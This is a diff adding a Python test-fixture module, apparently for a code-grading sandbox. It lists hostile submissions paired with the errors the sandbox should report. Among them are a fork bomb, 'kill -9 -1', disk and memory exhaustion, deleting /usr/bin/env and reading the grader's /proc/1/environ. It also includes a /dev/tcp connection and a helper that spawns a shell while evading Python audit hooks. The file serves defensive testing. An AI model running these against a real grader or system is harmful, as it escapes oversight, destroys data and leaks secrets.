@@ -1,0 +1,56 @@
+"""Submissions that would harm the machine or others on it, and what must come of each: the words
+that it is named with, or those of a limit that it met."""
+
+from on_the_check import HEAD, combine, on_ranks
+
+# A program started without a word that Python's audit hooks would hear.
+_START = ("fork = LOADED['_posix' + 'subprocess'].fork_exec",
+          "err = os.pipe()",
+          "args = [[b'/bin/sh', b'-c', TEXT], [b'/bin/sh'], True, (err[1],), None, None, -1, -1, "
+          "-1, -1, -1, -1, *err, False, True, -1, None, None, None, -1, None, False]",
+          "fork(*args)", "import time; time.sleep(0.3)")
+
+
+def start(shell: str) -> str:
+    """Starts a shell behind the audit hook's back."""
+    return combine(*_START, head=f"{HEAD}TEXT = {shell.encode()!r}\n")
+
+
+ATTACKS = {
+    "forks": (combine("while True: getattr(os, 'fo' + 'rk')()"), "starts or ends a process"),
+    "fork_bomb": (start("bomb() { bomb | bomb & }; bomb; sleep 60"), "leaves a process behind"),
+    "daemon": (start("setsid sleep 1234567 & setsid sleep 1234567"), "leaves a process behind"),
+    "daemon_on_ranks": (on_ranks(*_START).replace("TEXT]", "b'setsid sleep 1234567']"),
+                        "leaves a process behind|returned its own tensor"),
+    "starts_a_program": (combine("LOADED['subprocess'].run(['id'])"), "starts or ends a process"),
+    "kills_its_parent": (combine("getattr(os, 'ki' + 'll')(os.getppid(), 9)"),
+                         "starts or ends a process"),
+    "kills_all_by_a_program": (start("kill -9 -1"), "ended before the check said|leaves a process"),
+    "leaves_at_once": (combine("getattr(os, '_ex' + 'it')(0)"), "ended before the check said"),
+    "endless_loop": (combine("while True: pass"), "not done after"),
+    "fills_the_disk": (combine("with open('big', 'wb') as file:",
+                               "    while True: file.write(bytes(10**7))"), "File too large|space"),
+    "makes_files": (combine("for n in range(10**6): open(f'f{n}', 'w').close()"),
+                    "No space left|Too many"),
+    "fills_the_output": (combine("while True: print('x' * 1000)"), "printed more than"),
+    "fills_the_output_of_ranks": (on_ranks("for _ in range(30000): print('x' * 1000)"),
+                                  "returned its own tensor"),
+    "fills_the_memory": (combine("held = []", "while True: held.append(bytearray(10**8))"),
+                         "MemoryError|ended before the check said"),
+    "opens_files": (combine("held = [open('/dev/null') for _ in range(10**5)]"),
+                    "Too many open files"),
+    "opens_a_socket": (combine("LOADED['socket'].create_connection(('192.0.2.1', 53), 2)"),
+                       "opens a socket"),
+    "listens": (combine("s = LOADED['socket'].socket()", "s.bind(('0.0.0.0', 4444))"),
+                "opens a socket"),
+    "reaches_out_by_a_program": (start("bash -c 'exec 3<>/dev/tcp/192.0.2.1/53'; sleep 9"),
+                                 "leaves a process"),
+    "writes_into_labs": (combine("open(LOADED['labs'].__file__, 'a').write('x')"), "writes .*labs"),
+    "removes_files": (combine("os.remove('/usr/bin/env')"), "calls os.remove"),
+    "lists_home": (combine("os.listdir('/root')"), "calls os.listdir on /root"),
+    "reads_another_process": (combine("open('/pr' + 'oc/1/mem', 'rb').read(10)"),
+                              "opens /proc/1/mem"),
+    "reads_the_graders_environment": (combine("open('/pr' + 'oc/1/environ').read()"),
+                                      "opens /proc/1/environ"),
+    "loads_compiled_code": (combine("open('x.so', 'wb').write(b'')"), "uses compiled code"),
+}
